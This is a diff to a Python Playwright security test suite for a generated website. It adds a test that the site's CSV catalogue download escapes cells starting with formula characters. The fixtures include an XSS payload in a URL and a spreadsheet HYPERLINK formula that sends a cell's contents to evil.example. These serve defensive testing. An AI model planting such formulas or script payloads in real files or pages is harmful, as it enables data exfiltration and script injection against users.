@@ -8,12 +8,15 @@ into a built page is refused by the page's Content-Security-Policy.
 
 from __future__ import annotations
 
+import csv
+import io
 from collections.abc import Iterator
+from pathlib import Path
 from typing import Any
 
 import pytest
 import yaml
-from playwright.sync_api import Browser, Page
+from playwright.sync_api import Browser, Page, expect
 
 from benchmarks.browser import serve
 from generator.build import build_site
@@ -41,8 +44,13 @@ TEXT = " ".join(ATTACKS)
 URL = 'https://example.org/")<img src=x onerror=alert(10)>'
 
 
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+
+
 def hostile(lang_note: str) -> dict[str, str]:
-    return {"title": f"{lang_note} {TEXT}", "summary": TEXT, "description": TEXT, "results": TEXT, "transferability": TEXT}
+    # Starting like a spreadsheet formula: the catalogue's CSV download must make it text.
+    title = f"{FORMULA} {lang_note} {TEXT}"
+    return {"title": title, "summary": f"-{TEXT}", "description": TEXT, "results": TEXT, "transferability": TEXT}
 
 
 def practice_data() -> dict[str, Any]:
@@ -160,3 +168,14 @@ def test_a_script_slipped_into_a_page_is_refused_by_the_policy(browser: Browser,
     # The theme's own inline scripts did run: the policy allows them by their hashes.
     assert page.evaluate("typeof __md_get") == "function"
     context.close()
+
+
+def test_the_catalogue_download_writes_formulas_as_text(page: Page, hostile_url: str, tmp_path: Path) -> None:
+    page.goto(f"{hostile_url}/practices/")
+    expect(page.locator(".kb-catalogue.kb-ready")).to_be_visible()
+    with page.expect_download() as info:
+        page.get_by_role("button", name="Download these results (CSV)").click()
+    rows = list(csv.DictReader(io.StringIO(Path(info.value.path()).read_text(encoding="utf-8"))))
+    hostile_row = next(r for r in rows if r["id"] == "hostile")
+    assert hostile_row["title"].startswith("'" + FORMULA) and hostile_row["summary"].startswith("'-")
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
